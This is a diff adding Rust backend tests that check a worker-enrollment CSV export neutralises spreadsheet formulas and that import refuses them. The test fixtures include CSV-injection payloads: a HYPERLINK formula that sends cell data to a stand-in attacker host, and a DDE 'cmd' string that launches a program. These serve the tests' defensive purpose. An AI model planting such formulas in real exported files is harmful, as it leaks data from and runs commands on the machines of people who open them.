@@ -161,3 +161,104 @@ backend_test!(an_export_imports_back_into_the_same_statistics, |app: TestApp| as
     assert!(empty.stats_differences().await.is_empty());
     empty.cleanup().await;
 });
+
+/// Whether a spreadsheet would run the cell as a formula (OWASP's characters).
+fn starts_like_a_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every cell of a CSV file, as a spreadsheet reads them.
+fn cells(path: &Path) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(path).unwrap();
+    reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+}
+
+const NAMES: &str = "{ workers(first: 50) { nodes { nik fullName } } }";
+
+backend_test!(exports_make_formulas_inert_and_import_back_exactly, |app: TestApp| async move {
+    let folder = Folder::new();
+    // Names the API accepts that a spreadsheet would still take for a formula (a leading '-'),
+    // or that hold a quote where the neutralisation puts one.
+    let names = ["-Budi Santoso", "'-Siti Aminah", "'Aisyah", "Dewi-Lestari", "Ahmad, \"Mat\""];
+    for (n, name) in names.into_iter().enumerate() {
+        let worker =
+            app.register(&format!("360301150585000{}", n + 1), name, "36.03", Some("36.03.01"), "FISHER").await;
+        app.enroll(&worker, "36.03", "2023-01-01", None).await;
+    }
+    let exported = folder.0.join("export.csv");
+    let output = jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&exported)]);
+    assert!(output.status.success(), "{output:?}");
+    let text = std::fs::read_to_string(&exported).unwrap();
+    for written in
+        [",\"'-Budi Santoso\",", ",\"''-Siti Aminah\",", ",'Aisyah,", ",Dewi-Lestari,", ",\"Ahmad, \"\"Mat\"\"\","]
+    {
+        assert!(text.contains(written), "{written} in {text}");
+    }
+    assert!(!cells(&exported).iter().any(|cell| starts_like_a_formula(cell)), "{text}");
+
+    // Imported into an empty database: the same names, and the same file exported again.
+    let copy = TestApp::spawn(app.backend).await;
+    let imported = jaminan(&copy, &["import", "enrollments", arg(&exported), "--regency", "36.03"]);
+    assert!(imported.status.success(), "{imported:?}");
+    let (original, copied) =
+        (app.gql_as(&app.admin, NAMES, json!({})).await, copy.gql_as(&copy.admin, NAMES, json!({})).await);
+    assert_eq!(data(&original), data(&copied));
+    let mut stored: Vec<String> = data(&copied)["workers"]["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| w["fullName"].as_str().unwrap().to_owned())
+        .collect();
+    stored.sort();
+    let mut expected: Vec<String> = names.iter().map(|n| n.to_string()).collect();
+    expected.sort();
+    assert_eq!(stored, expected);
+    let again = folder.0.join("again.csv");
+    assert!(
+        jaminan(&copy, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&again)])
+            .status
+            .success()
+    );
+    assert_eq!(std::fs::read_to_string(&again).unwrap(), text);
+    copy.cleanup().await;
+});
+
+backend_test!(formulas_stored_before_the_rule_are_exported_inert_and_refused_on_import, |app: TestApp| async move {
+    use sea_orm::ConnectionTrait;
+    let folder = Folder::new();
+    let formulas = [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)"];
+    for (n, formula) in formulas.into_iter().enumerate() {
+        let worker = app
+            .register(&format!("360301150585000{}", n + 1), "Placeholder", "36.03", Some("36.03.01"), "FISHER")
+            .await;
+        app.enroll(&worker, "36.03", "2023-01-01", None).await;
+        // As registerWorker accepted them before the rule.
+        let sql = format!("UPDATE worker SET full_name = '{}' WHERE id = {worker}", formula.replace('\'', "''"));
+        app.state.db.execute_unprepared(&sql).await.unwrap();
+    }
+    let exported = folder.0.join("export.csv");
+    let output = jaminan(&app, &["export", "enrollments", "--regency", "36.03", "--year", "2023", arg(&exported)]);
+    assert!(output.status.success(), "{output:?}");
+    let text = std::fs::read_to_string(&exported).unwrap();
+    for formula in formulas {
+        let written = format!(",\"'{}\",", formula.replace('"', "\"\""));
+        assert!(text.contains(&written), "{written} in {text}");
+    }
+    assert!(!cells(&exported).iter().any(|cell| starts_like_a_formula(cell)), "{text}");
+
+    // Read back, they are the names registerWorker now refuses: error rows, nothing written.
+    let copy = TestApp::spawn(app.backend).await;
+    let imported = jaminan(&copy, &["import", "enrollments", arg(&exported), "--regency", "36.03"]);
+    assert!(!imported.status.success(), "{imported:?}");
+    let errors_path = folder.0.join("export.errors.csv");
+    let errors = std::fs::read_to_string(&errors_path).unwrap();
+    for line in 2..=4 {
+        assert!(
+            errors.contains(&format!("\n{line},full_name,BAD_USER_INPUT,\"fullName must not start with =, + or @")),
+            "{errors}"
+        );
+    }
+    assert!(!cells(&errors_path).iter().any(|cell| starts_like_a_formula(cell)), "{errors}");
+    assert_eq!(copy.count_rows("worker").await, 0);
+    copy.cleanup().await;
+});
